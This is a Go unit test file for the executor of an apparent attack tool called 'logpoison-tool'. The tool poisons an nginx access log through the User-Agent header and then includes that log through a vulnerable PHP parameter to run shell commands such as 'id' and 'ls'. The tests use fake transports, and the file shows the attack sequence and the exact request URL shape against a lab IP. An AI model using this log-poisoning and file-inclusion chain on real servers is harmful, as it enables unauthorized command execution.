package executor

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/logpoison-tool/internal/config"
	"github.com/logpoison-tool/internal/logger"
	"github.com/logpoison-tool/internal/transport"
	"github.com/logpoison-tool/pkg/models"
)

const (
	target  = "http://10.10.10.10/index.php"
	logPath = "/var/log/nginx/access.log"
)

// journal records poison and include calls in the order they happen
type journal struct {
	events []string
}

type fakeStrategy struct {
	journal *journal
	ok      bool
	payload string
}

func (s *fakeStrategy) Poison(ctx context.Context, target, param, path, payload string) bool {
	s.journal.events = append(s.journal.events, "poison")
	s.payload = payload
	return s.ok
}

func (s *fakeStrategy) Method() models.Method {
	return models.MethodUserAgent
}

type fakeTransport struct {
	journal *journal
	resp    *transport.Response
	err     error
	urls    []string
	headers []map[string]string
}

func (f *fakeTransport) Get(ctx context.Context, rawURL string, headers map[string]string) (*transport.Response, error) {
	f.journal.events = append(f.journal.events, "include")
	f.urls = append(f.urls, rawURL)
	f.headers = append(f.headers, headers)
	if f.err != nil {
		return nil, f.err
	}
	return f.resp, nil
}

func newExecutor(ok bool, resp *transport.Response, err error) (*Executor, *journal, *fakeStrategy, *fakeTransport) {
	j := &journal{}
	strategy := &fakeStrategy{journal: j, ok: ok}
	fake := &fakeTransport{journal: j, resp: resp, err: err}
	e := New(fake, strategy, target, "language", logPath, config.Default(), logger.Discard())
	return e, j, strategy, fake
}

func TestExecutePoisonsBeforeEveryInclusion(t *testing.T) {
	page := &transport.Response{StatusCode: 200, Body: "<pre>uid=33(www-data) gid=33(www-data)</pre>"}
	e, j, strategy, fake := newExecutor(true, page, nil)

	for i := 0; i < 3; i++ {
		out := e.Execute(context.Background(), "id")
		assert.Equal(t, "uid=33(www-data) gid=33(www-data)", out)
		assert.Equal(t, StateIdle, e.State())
	}

	assert.Equal(t, []string{"poison", "include", "poison", "include", "poison", "include"}, j.events)
	assert.Equal(t, config.DefaultPayload, strategy.payload)
	assert.Equal(t, Stats{Poisons: 3, Executions: 3}, e.Stats())

	require.Len(t, fake.urls, 3)
	assert.Equal(t, target+"?language="+logPath+"&cmd=id", fake.urls[0])
	assert.Equal(t, map[string]string{"User-Agent": config.DefaultUserAgent}, fake.headers[0])
}

func TestExecuteEncodesCommand(t *testing.T) {
	page := &transport.Response{StatusCode: 200, Body: "total 0"}
	e, _, _, fake := newExecutor(true, page, nil)

	e.Execute(context.Background(), "ls -la /var/www/html")

	require.Len(t, fake.urls, 1)
	assert.True(t, strings.HasSuffix(fake.urls[0], "&cmd=ls%20-la%20/var/www/html"))
}

func TestExecuteRepoisonFailure(t *testing.T) {
	e, j, _, _ := newExecutor(false, nil, nil)

	assert.Equal(t, MsgRepoisonFailed, e.Execute(context.Background(), "id"))
	assert.Equal(t, []string{"poison"}, j.events)
	assert.Equal(t, StateIdle, e.State())
	assert.Equal(t, Stats{Poisons: 1, Failures: 1}, e.Stats())
}

func TestExecuteNonSuccessStatus(t *testing.T) {
	e, _, _, _ := newExecutor(true, &transport.Response{StatusCode: 500, Body: "uid=0(root)"}, nil)

	assert.Equal(t, "Request failed with status: 500", e.Execute(context.Background(), "id"))
}

func TestExecuteTransportError(t *testing.T) {
	e, _, _, _ := newExecutor(true, nil, fmt.Errorf("%w: i/o timeout", transport.ErrTransport))

	out := e.Execute(context.Background(), "id")
	assert.True(t, strings.HasPrefix(out, "Error executing command: "))
	assert.Contains(t, out, "i/o timeout")
	assert.Equal(t, StateIdle, e.State())
}

func TestExecuteNoOutput(t *testing.T) {
	e, _, _, _ := newExecutor(true, &transport.Response{StatusCode: 200, Body: ""}, nil)

	assert.Equal(t, "No output captured", e.Execute(context.Background(), "true"))
}

func TestStateString(t *testing.T) {
	assert.Equal(t, "idle", StateIdle.String())
	assert.Equal(t, "poisoned", StatePoisoned.String())
	assert.Equal(t, "awaiting-output", StateAwaitingOutput.String())
}
